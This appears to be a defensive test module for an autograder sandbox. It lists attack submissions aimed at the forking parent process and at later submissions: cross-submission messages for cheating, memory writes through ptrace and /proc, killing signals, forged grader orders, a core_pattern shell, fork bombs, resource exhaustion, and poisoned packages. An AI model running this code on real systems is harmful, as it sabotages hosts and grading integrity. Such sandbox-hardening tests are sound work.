"""Submissions that attack the parent process that forks them, or the forks that come after them.

One parent process serves many submissions, and each submission's memory starts as a copy of the
parent's memory.
"""

from __future__ import annotations

from functools import partial

from tests.attacks.attack import Attack, cell, kernel

ITEMS = frozenset(["p3a-gradients", "p3b-kernel", "p3c-relu", "p3c-squared", "p3-plot"])

KIND = "warm parent"
reaches = partial(cell, KIND)
reaches_hastily = partial(cell, KIND, hasty=True, spends=ITEMS)

# Places in which one submission could leave a message for a later one: each entry is a pair of
# functions.
PLACES = """
import builtins, ctypes, os, socket, tempfile
import matplotlib
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
FOLDERS = [os.environ["HOME"], os.environ["TMPDIR"], os.environ["MPLCONFIGDIR"], "..",
           "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", matplotlib.get_data_path(),
           os.path.dirname(np.__file__)]
NAME = "a-word-for-a-friend"

def shared_memory():
    number = libc.shmget(0x5EED, 4096, 0o1666)
    return ctypes.cast(libc.shmat(number, None, 0), ctypes.POINTER(ctypes.c_char * 4096)).contents

def message_queue():
    return libc.mq_open(f"/{NAME}".encode(), os.O_RDWR | os.O_CREAT, 0o666, None)
"""


def attempts(code: str) -> str:
    """Return code that tries every line, even if the lines before it failed."""
    lines = [line.strip() for line in code.strip().splitlines()]
    return f"""
import builtins, ctypes, fcntl, gc, mmap, os, resource, signal, socket, struct, sys
import termios, time
import matplotlib
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
for line in {lines!r}:
    try:
        print(line, eval(line))
    except Exception as error:
        print(line, type(error).__name__)
"""


ATTACKS: tuple[Attack, ...] = (
    reaches(
        "leaves-word-for-a-later-one",
        "An answer is left in every place that might outlast the submission.",
        PLACES
        + """
WORD = b"lambda v, W, X, n: WORD_IS_THERE"
def leave(place, word):
    place[:len(word)] = word
ways = [lambda folder=folder: open(f"{folder}/{NAME}", "wb").write(WORD) for folder in FOLDERS]
ways += [
    lambda: leave(shared_memory(), WORD),
    lambda: libc.mq_send(message_queue(), WORD, len(WORD), 0),
    lambda: socket.socket(socket.AF_UNIX).bind("\\0" + NAME),
    lambda: os.environ.update({NAME: WORD.decode()}),
    lambda: setattr(builtins, "friend", WORD),
    lambda: setattr(np, "friend", WORD),
    lambda: setattr(matplotlib, "friend", WORD),
    lambda: matplotlib.rcParams.update({"svg.hashsalt": WORD.decode()}),
    lambda: os.symlink(WORD.decode(), os.path.join(os.environ["HOME"], NAME + "-link")),
]
for way in ways:
    try:
        way()
    except Exception as error:
        print(type(error).__name__)
""",
    ),
    kernel(
        KIND,
        "finds-word-of-an-earlier-one",
        "The true answer, but only where a word of the submission before it is found.",
        PLACES
        + """
def words():
    for folder in FOLDERS:
        yield lambda folder=folder: open(f"{folder}/{NAME}", "rb").read()
    yield lambda: bytes(shared_memory())
    yield lambda: libc.mq_getattr(message_queue(), ctypes.create_string_buffer(64)) or b"WORD"
    yield lambda: socket.socket(socket.AF_UNIX).connect("\\0" + NAME) or b"WORD"
    yield lambda: os.environ[NAME].encode()
    yield lambda: builtins.friend
    yield lambda: np.friend
    yield lambda: matplotlib.friend
    yield lambda: matplotlib.rcParams["svg.hashsalt"].encode()
    yield lambda: os.readlink(os.path.join(os.environ["HOME"], NAME + "-link")).encode()

def is_there(way):
    try:
        return b"WORD" in way()
    except Exception:
        return False

FOUND = any(map(is_there, words()))

def empirical_ntk(v, W, X, n):
    if not FOUND:
        return np.zeros((len(X), len(X)))
    A = activation(X @ W.T, n)
    B = activation_derivative(X @ W.T, n) * v
    return (A @ A.T + (X @ X.T) * (B @ B.T)) / len(v)
""",
    ),
    reaches(
        "writes-the-parents-memory",
        "A number that the parent holds too, at the same address, is overwritten there.",
        attempts("""
            libc.ptrace(16, parent, 0, 0)
            libc.ptrace(0x4206, parent, 0, 0)
            libc.ptrace(5, parent, ctypes.c_void_p(id(7) + 24), 8)
            open(f"/proc/{parent}/mem", "r+b", 0)
            os.pwrite(os.open(f"/proc/{parent}/mem", os.O_RDWR), bytes(8), id(7) + 24)
            os.pwrite(os.open(f"/proc/{parent}/task/{parent}/mem", os.O_RDWR), b"x", id(7) + 24)
            libc.process_vm_writev(parent, ctypes.create_string_buffer(16), 1, None, 1, 0)
            libc.syscall(438, libc.syscall(434, parent, 0), 0, 0)
            libc.syscall(310, parent, 0, 0, 0, 0, 0)
            libc.syscall(440, libc.syscall(434, parent, 0), 0, 0, 21, 0)
        """),
    ),
    reaches(
        "writes-what-proc-offers",
        "The parent's folder in /proc: its files, root, descriptors and settings.",
        attempts("""
            open(f"/proc/{parent}/oom_score_adj", "w").write("1000")
            open(f"/proc/{parent}/comm", "w").write("poisoned")
            open(f"/proc/{parent}/clear_refs", "w").write("1")
            open(f"/proc/{parent}/coredump_filter", "w").write("0x7f")
            open(f"/proc/{parent}/timerslack_ns", "w").write("1000000000")
            open(f"/proc/{parent}/fd/1", "w").write("ready")
            [open(f"/proc/{parent}/fd/{n}", "r+b", 0).write(b"x" * 64) for n in range(32)]
            os.symlink("/", f"/proc/{parent}/cwd/link")
            open(os.path.join(f"/proc/{parent}/root", "tmp/planted"), "w").write("planted")
            open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
            open("/proc/sysrq-trigger", "w").write("f")
        """),
    ),
    reaches(
        "signals-its-parent",
        "Every signal to the parent, to its group and its session, by every call there is.",
        """
        import ctypes, os, signal
        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        handle = libc.syscall(434, parent, 0)
        for number in [signal.SIGSTOP, signal.SIGKILL, *range(1, 65)]:
            for pid in (parent, -parent, 1, 2):
                try:
                    os.kill(pid, number)
                    print("SENT", pid, number)
                except OSError:
                    pass
            info = ctypes.create_string_buffer(128)
            calls = [libc.syscall(200, parent, number), libc.syscall(234, parent, parent, number),
                     libc.syscall(129, parent, number, info),
                     libc.syscall(297, parent, parent, number, info),
                     libc.syscall(424, handle, number, None, 0)]
            print(calls)
        """,
    ),
    reaches(
        "has-the-kernel-signal",
        "Owners of descriptors, timers and ends of children: signals that others send.",
        """
        import ctypes, fcntl, os, signal, struct
        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        reader, writer = os.pipe()
        for command, value in ((8, parent), (8, -parent), (10, 9), (15, 0), (1024, 1), (1026, 15)):
            try:
                print(command, fcntl.fcntl(reader, command, value))
            except OSError as error:
                print(command, type(error).__name__)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
        event = struct.pack("=qiii44x", 0, signal.SIGKILL, 4, parent)
        number = ctypes.c_int()
        print(libc.timer_create(1, event, ctypes.byref(number)), ctypes.get_errno())
        print(libc.prctl(36, 1, 0, 0, 0), libc.prctl(0x59616D61, parent, 0, 0, 0))
        """,
    ),
    reaches_hastily(
        "forges-orders-to-the-parent",
        "The grader's own orders are sent into every socket that was inherited.",
        """
        import os, socket, stat, struct
        import msgpack
        parent = os.getppid()
        orders = [["ready", parent], ["kill", parent], ["end all", {"uid": 0}], ["done", 0],
                  ["started", 1], ["notebook", {"folder": "/", "files": {}}],
                  ["empty", {"work": "/", "tmp": "/", "home": "/"}]]
        def wire(value):
            if isinstance(value, list):
                return ["l", *map(wire, value)]
            if isinstance(value, dict):
                return ["d", *([key, wire(part)] for key, part in value.items())]
            return value
        for number in range(256):
            try:
                if not stat.S_ISSOCK(os.fstat(number).st_mode):
                    continue
                for order in orders:
                    body = msgpack.packb([wire(order), []])
                    with socket.socket(fileno=os.dup(number)) as way:
                        way.settimeout(0.2)
                        frame = struct.pack("!II", len(body), 0) + body
                        socket.send_fds(way, [frame], [os.open("/dev/null", os.O_RDONLY)])
            except OSError as error:
                print(number, type(error).__name__)
        """,
    ),
    reaches_hastily(
        "waits-for-the-next-one",
        "A process with no parent, deaf to signals, ruins what turns up beside its own files.",
        """
        import os, signal, time
        own = os.getpid()
        work = os.path.dirname(os.getcwd())
        if os.fork() == 0:
            if os.fork() == 0:
                for number in range(1, 65):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                for way in (os.setsid, lambda: os.setpgid(0, 0)):
                    try:
                        way()
                    except OSError:
                        pass
                end = time.monotonic() + 600
                while time.monotonic() < end:
                    for folder in (work, os.environ["HOME"], os.environ["TMPDIR"]):
                        for where, _, names in os.walk(folder):
                            for name in (*names, "checks.py", "numpy.py"):
                                try:
                                    open(os.path.join(where, name), "w").write("1/0")
                                except OSError:
                                    pass
                    for pid in range(own, own + 60):
                        if pid not in (own, os.getpid()):
                            try:
                                os.kill(pid, signal.SIGKILL)
                            except OSError:
                                pass
            os._exit(0)
        """,
    ),
    reaches(
        "is-told-of-the-next-one",
        "The kernel is asked to tell of files that come into the work folder.",
        """
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        work = os.path.dirname(os.getcwd()).encode()
        told = [libc.inotify_init1(0), libc.inotify_init(), libc.fanotify_init(0, 0)]
        for number in told:
            print(number, libc.inotify_add_watch(number, work, 0xFFF),
                  libc.fanotify_mark(number, 1, 0x38, -100, work))
        opened = os.open(work, os.O_RDONLY)
        import fcntl
        for command in (1026, 1024):
            try:
                print(fcntl.fcntl(opened, command, 0x3F))
            except OSError as error:
                print(type(error).__name__)
        if os.fork() == 0:
            while True:
                time.sleep(0.01)
                for number in (number for number in told if number >= 0):
                    os.write(1, os.read(number, 4096))
        """,
    ),
    reaches(
        "listens-under-a-name",
        "Sockets with names that need no file, on which a process that stays would listen.",
        """
        import ctypes, os, socket, time
        libc = ctypes.CDLL(None, use_errno=True)
        kinds = [(1, 1), (1, 2), (1, 5), (2, 1), (2, 2), (10, 1), (16, 3), (17, 3), (38, 5)]
        held = []
        for family, kind in kinds:
            try:
                held.append(socket.socket(family, kind))
                held[-1].bind("\\0warm" if family == 1 else ("127.0.0.1", 5555))
            except OSError as error:
                print(family, kind, type(error).__name__)
        pairs = [socket.socketpair() for _ in range(3)]
        for one, other in pairs:
            for way in (lambda: one.bind("\\0warm"), lambda: one.listen(), lambda: one.accept(),
                        lambda: one.connect("\\0@abstract@"), lambda: other.sendto(b"x", "@unix@")):
                try:
                    print(way())
                except OSError as error:
                    print(type(error).__name__)
        if os.fork() == 0:
            time.sleep(3600)
        """,
    ),
    reaches_hastily(
        "leaves-no-room",
        "Home and temporary folder are full of what is hard to remove.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        here = os.getcwd()
        for top in (os.environ["HOME"], os.environ["TMPDIR"]):
            os.chdir(top)
            try:
                for number in range(200):
                    os.mkdir(f"{number}" + "\\n\\udcff" * 20)
                    os.link("/dev/null", f"null{number}")
            except OSError as error:
                print(type(error).__name__)
            open("x", "w").close()
            held = os.open("x", os.O_RDONLY)
            for flag in (0x10, 0x20):
                print(libc.ioctl(held, 0x40086602, ctypes.byref(ctypes.c_long(flag))))
            try:
                for _ in range(300):
                    os.mkdir("d" * 250)
                    os.chdir("d" * 250)
                    os.symlink("/", "root")
                with open("junk", "wb") as file:
                    while True:
                        file.write(bytes(10**6))
            except OSError as error:
                print(type(error).__name__)
            os.chdir(top)
            os.umask(0o777)
            os.mkdir("closed")
            os.chmod(top, 0)
        os.chdir(here)
        """,
    ),
    reaches(
        "poisons-matplotlib",
        "Font lists, settings, styles and locks where the next import or drawing looks for them.",
        """
        import glob, os
        import matplotlib
        places = {os.environ["MPLCONFIGDIR"], matplotlib.get_configdir(),
                  matplotlib.get_cachedir(), matplotlib.get_data_path(), os.environ["HOME"],
                  os.path.join(os.environ["HOME"], ".config/matplotlib"), os.getcwd()}
        for place in places:
            lists = glob.glob(os.path.join(place, "fontlist*.json"))
            for path in [*lists, *(os.path.join(place, name) for name in (
                    "fontlist-v390.json", "fontlist-v400.json", "matplotlibrc",
                    "stylelib/_classic_test_patch.mplstyle", "fontlist.matplotlib-lock"))]:
                for way in (lambda: os.makedirs(os.path.dirname(path), exist_ok=True),
                            lambda: os.rename(path, path + ".gone"), lambda: os.unlink(path),
                            lambda: open(path, "w").write("backend: no_such_backend"),
                            lambda: os.truncate(path, 0), lambda: os.symlink("/dev/null", path)):
                    try:
                        way()
                        print("DONE", path)
                    except OSError as error:
                        print(type(error).__name__)
        """,
    ),
    reaches(
        "poisons-packages",
        "Compiled modules, path files and start scripts among the packages that others import.",
        """
        import glob, mmap, os, sys
        for folder in dict.fromkeys([*sys.path, sys.prefix, os.path.dirname(os.__file__)]):
            paths = [os.path.join(folder, name) for name in (
                "sitecustomize.py", "usercustomize.py", "a.pth", "statistics.py", "inside.py")]
            paths += glob.glob(os.path.join(folder, "__pycache__", "st*.pyc"))[:3]
            paths += glob.glob(os.path.join(folder, "numpy", "__init__.py"))
            paths += glob.glob(os.path.join(folder, "inside", "*.py"))
            if folder == os.getcwd():
                continue
            for path in paths:
                for way in (lambda: open(path, "r+b").write(b"1/0"), lambda: open(path, "w"),
                            lambda: os.unlink(path), lambda: os.rename(path, path + "c"),
                            lambda: os.link(path, "mine"), lambda: os.truncate(path, 3),
                            lambda: mmap.mmap(os.open(path, os.O_RDONLY), 1, mmap.MAP_SHARED,
                                              mmap.PROT_WRITE)):
                    try:
                        way()
                        print("DONE", path)
                    except (OSError, ValueError):
                        pass
        """,
    ),
    reaches(
        "learns-the-layout-of-memory",
        "Where things lie in the parent, as told by /proc and by its own copies of them.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        found = [id(None), id(np), ctypes.cast(libc.system, ctypes.c_void_p).value,
                 ctypes.addressof(ctypes.c_int.in_dll(ctypes.pythonapi, "Py_OptimizeFlag"))]
        print([hex(place) for place in found])
        for pid in ("self", os.getppid(), 1):
            for name in ("maps", "smaps", "map_files", "pagemap", "stat", "syscall", "auxv"):
                try:
                    print(open(f"/proc/{pid}/{name}", "rb").read())
                except OSError as error:
                    print(type(error).__name__)
        libc.system(b"id > @course@/planted; kill -9 $PPID")
        """,
    ),
    reaches_hastily(
        "leaves-no-process-to-be-had",
        "All processes that there may be, all the time, so that the parent can't fork.",
        """
        import os, time
        def breed():
            while True:
                try:
                    if os.fork() == 0:
                        continue
                except OSError:
                    time.sleep(0.001)
        for _ in range(4):
            if os.fork() == 0:
                breed()
        time.sleep(1)
        """,
    ),
    reaches_hastily(
        "leaves-no-descriptor-to-be-had",
        "Pipes, filled and held open by as many processes as there may be.",
        """
        import os, resource, time
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (10**6, 10**6))
        except (OSError, ValueError) as error:
            print(type(error).__name__)
        for _ in range(20):
            try:
                if os.fork() == 0:
                    held = []
                    try:
                        while True:
                            held.append(os.pipe())
                            os.set_blocking(held[-1][1], False)
                            os.write(held[-1][1], bytes(65536))
                    except OSError:
                        time.sleep(3600)
                    os._exit(0)
            except OSError:
                break
        time.sleep(1)
        """,
    ),
    reaches_hastily(
        "copies-every-inherited-page",
        "Many processes write to all that they share with the parent, and want to live longer.",
        """
        import gc, os, time
        for path in ("/proc/self/oom_score_adj", f"/proc/{os.getppid()}/oom_score_adj"):
            for value in ("-1000", "1000"):
                try:
                    open(path, "w").write(value)
                except OSError as error:
                    print(type(error).__name__)
        for _ in range(60):
            try:
                if os.fork() == 0:
                    gc.unfreeze()
                    gc.collect()
                    held = [bytearray(b"x") * 2**20 for _ in range(40)]
                    time.sleep(3600)
                    os._exit(0)
            except OSError:
                break
        time.sleep(1)
        """,
    ),
    reaches(
        "changes-what-is-inherited",
        "Limits, priority, processors, terminal, mask and folder, its own and the parent's.",
        attempts("""
            os.nice(19)
            os.setpriority(os.PRIO_PROCESS, parent, 19)
            os.setpriority(os.PRIO_PGRP, 0, 19)
            os.setpriority(os.PRIO_USER, 0, 19)
            os.sched_setaffinity(parent, {0})
            os.sched_setaffinity(0, {0})
            os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0))
            libc.syscall(251, 1, parent, 3 << 13)
            resource.prlimit(parent, resource.RLIMIT_NOFILE, (4, 4))
            resource.prlimit(parent, resource.RLIMIT_NPROC, (0, 0))
            resource.prlimit(parent, resource.RLIMIT_AS, (4096, 4096))
            resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
            libc.tcsetpgrp(0, os.getpid())
            fcntl.ioctl(0, termios.TIOCSTI, b"x")
            fcntl.ioctl(0, termios.TIOCNOTTY)
            os.umask(0o777)
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGCHLD, signal.SIGALRM})
            libc.personality(0x0040000)
            libc.unshare(0x20000000)
            libc.syscall(308, 0, 0)
            os.putenv("OPENBLAS_NUM_THREADS", "64")
        """),
    ),
    reaches(
        "holds-locks",
        "Locks on files that others open too, held by a process that stays.",
        """
        import fcntl, glob, os, sys, time
        paths = glob.glob(os.path.join(os.environ["MPLCONFIGDIR"], "*"))
        paths += [np.__file__, os.__file__, sys.executable, "/dev/null", "/dev/urandom"]
        held = []
        for path in paths:
            for lock in (fcntl.flock, fcntl.lockf):
                try:
                    held.append(open(path, "rb"))
                    print(path, lock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB))
                except OSError as error:
                    print(path, type(error).__name__)
        for number in range(256):
            for way in (fcntl.LOCK_UN, fcntl.LOCK_EX | fcntl.LOCK_NB):
                try:
                    fcntl.flock(number, way)
                except OSError:
                    pass
        if os.fork() == 0:
            time.sleep(3600)
        """,
    ),
)
